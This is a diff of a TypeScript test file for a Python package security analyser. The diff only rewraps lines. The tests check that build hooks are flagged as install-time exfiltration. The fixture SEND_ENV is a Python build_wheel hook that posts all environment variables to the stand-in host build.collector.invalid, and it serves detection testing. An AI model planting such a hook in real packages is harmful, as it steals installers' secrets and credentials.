@@ -5,7 +5,8 @@ import { buildSdist } from '../../scripts/lib/build-dist.ts';
 import { analyzeTarget, initAnalysis } from '../../src/analysis/api.ts';
 import { openArchive } from '../../src/pypi/archive/index.ts';
 
-const SEND_ENV = 'import os, urllib.request\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    urllib.request.urlopen("https://build.collector.invalid/", data=repr(dict(os.environ)).encode())\n    return "x.whl"\n';
+const SEND_ENV =
+  'import os, urllib.request\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    urllib.request.urlopen("https://build.collector.invalid/", data=repr(dict(os.environ)).encode())\n    return "x.whl"\n';
 
 async function analyse(files: Record<string, string>) {
   await initAnalysis();
@@ -19,7 +20,9 @@ test('an in-tree PEP 517 backend is install-time code', async () => {
     '_build/backend.py': SEND_ENV,
     'hooked/__init__.py': 'VALUE = 1\n',
   });
-  assert.ok(target.findings.some((f) => f.rule === 'build-hook' && /PEP 517 backend \(backend from _build\)/.test(f.message)));
+  assert.ok(
+    target.findings.some((f) => f.rule === 'build-hook' && /PEP 517 backend \(backend from _build\)/.test(f.message)),
+  );
   const backend = target.files.find((f) => f.path.endsWith('_build/backend.py'))!;
   const flow = backend.findings.find((f) => f.rule === 'exfiltration')!;
   assert.equal(flow.trigger, 'install');
@@ -29,12 +32,16 @@ test('an in-tree PEP 517 backend is install-time code', async () => {
 
 test('a hatch build hook (custom path) runs at install time; the same code elsewhere runs when called', async () => {
   const target = await analyse({
-    'pyproject.toml': '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[tool.hatch.build.hooks.custom]\npath = "tools/hook.py"\n',
+    'pyproject.toml':
+      '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[tool.hatch.build.hooks.custom]\npath = "tools/hook.py"\n',
     'tools/hook.py': SEND_ENV,
     'tools/other.py': SEND_ENV,
   });
-  assert.ok(target.findings.some((f) => f.rule === 'build-hook' && /hatch build hook \(tools\/hook\.py\)/.test(f.message)));
-  const triggerOf = (name: string) => target.files.find((f) => f.path.endsWith(name))!.findings.find((f) => f.rule === 'exfiltration')!.trigger;
+  assert.ok(
+    target.findings.some((f) => f.rule === 'build-hook' && /hatch build hook \(tools\/hook\.py\)/.test(f.message)),
+  );
+  const triggerOf = (name: string) =>
+    target.files.find((f) => f.path.endsWith(name))!.findings.find((f) => f.rule === 'exfiltration')!.trigger;
   assert.equal(triggerOf('tools/hook.py'), 'install');
   assert.equal(triggerOf('tools/other.py'), 'call');
 });
